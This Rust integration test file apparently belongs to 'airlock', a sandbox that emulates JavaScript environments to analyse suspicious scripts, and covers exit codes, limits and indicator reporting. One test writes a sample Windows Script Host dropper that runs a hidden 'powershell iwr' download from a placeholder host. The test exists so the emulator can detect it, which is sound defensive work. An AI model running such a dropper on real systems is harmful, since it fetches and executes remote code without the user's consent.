//! `airlock js` as a user runs it. Uses the installed guest and the user's compiled-code cache
//! (the README's test command installs it).

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;
use common::{airlock, airlock_in, code, err, out, schema_errors};

#[test]
fn dash_e_runs_code_with_arguments() {
    let o = airlock(&[
        "js",
        "-e",
        "console.log('hi', JSON.stringify(scriptArgs.slice(1)))",
        "a",
        "-b",
    ]);
    assert_eq!(code(&o), 0, "{}", err(&o));
    assert_eq!(out(&o), "hi [\"a\",\"-b\"]\n");
}

#[test]
fn files_and_stdin_run_and_an_uncaught_exception_exits_1() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("fail.js");
    std::fs::write(&file, "console.log('before');\nnull.x;\n").unwrap();
    let o = airlock(&["js", file.to_str().unwrap()]);
    assert_eq!(code(&o), 1);
    assert_eq!(out(&o), "before\n");
    assert!(err(&o).contains("TypeError"), "{}", err(&o));
    assert!(err(&o).contains("fail.js:2"), "{}", err(&o));

    let o = airlock_in(&["js", "-"], b"console.log(40 + 2)");
    assert_eq!(code(&o), 0, "{}", err(&o));
    assert_eq!(out(&o), "42\n");
}

#[test]
fn an_environment_reports_what_the_script_did() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("drop.js");
    std::fs::write(
        &file,
        "var sh = new ActiveXObject('WScript.Shell');\n\
         sh.Run('powershell -c iwr http://dl.example/x.ps1', 0);\n",
    )
    .unwrap();
    let o = airlock(&["js", "--env", "wsh", file.to_str().unwrap()]);
    assert_eq!(code(&o), 0, "{}", err(&o));
    assert!(err(&o).contains("airlock: wsh environment:"), "{}", err(&o));
    assert!(
        err(&o).contains("command   powershell -c iwr http://dl.example/x.ps1"),
        "{}",
        err(&o)
    );

    let report = dir.path().join("report.json");
    let o = airlock(&[
        "js",
        "--env",
        "wsh",
        "--json",
        "--report",
        report.to_str().unwrap(),
        file.to_str().unwrap(),
    ]);
    assert_eq!(code(&o), 0, "{}", err(&o));
    let json: serde_json::Value = serde_json::from_str(&out(&o)).expect("--json prints JSON");
    assert_eq!(
        json["emulation"]["indicators"]["urls"][0],
        "http://dl.example/x.ps1"
    );
    let report: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
    assert_eq!(report["input"]["kind"], "javascript");
    assert_eq!(report["emulation"]["environment"], "wsh");
    assert_eq!(
        report["emulation"]["indicators"]["domains"][0],
        "dl.example"
    );
    let errors = schema_errors(&report);
    assert!(errors.is_empty(), "{errors:#?}");
}

#[test]
fn a_prelude_file_is_an_environment_and_other_env_values_are_variables() {
    let dir = tempfile::tempdir().unwrap();
    let prelude = dir.path().join("kiosk.js");
    std::fs::write(
        &prelude,
        "function (A) {\n  A.global.beep = function (url) { A.emit('network', 'beep', [url], { url: url }); };\n}\n",
    )
    .unwrap();
    let o = airlock(&[
        "js",
        "--env",
        prelude.to_str().unwrap(),
        "--env",
        "GREETING=hi",
        "--json",
        "-e",
        "beep('https://k.example/ping')",
    ]);
    assert_eq!(code(&o), 0, "{}", err(&o));
    let json: serde_json::Value = serde_json::from_str(&out(&o)).unwrap();
    assert_eq!(json["emulation"]["environment"], "kiosk");
    assert_eq!(
        json["emulation"]["indicators"]["urls"][0],
        "https://k.example/ping"
    );

    let o = airlock(&["js", "--env", "wsh", "--env", "node", "-e", "1"]);
    assert_eq!(code(&o), 78, "{}", err(&o));
    assert!(
        err(&o).contains("more than one emulated environment"),
        "{}",
        err(&o)
    );
}

#[test]
fn limits_apply_and_a_missing_guest_is_a_clear_error() {
    let o = airlock(&["js", "--timeout", "300ms", "-e", "for (;;) {}"]);
    assert_eq!(code(&o), 124, "{}", err(&o));
    let o = airlock(&["js", "--fuel", "100000", "-e", "for (;;) {}"]);
    assert_eq!(code(&o), 152, "{}", err(&o));
    let o = airlock(&["js", "--guest", "/nonexistent/guest", "-e", "1"]);
    assert_eq!(code(&o), 69);
    assert!(err(&o).contains("airlock install js"), "{}", err(&o));
    let o = airlock(&["js"]);
    assert_eq!(code(&o), 64);
}
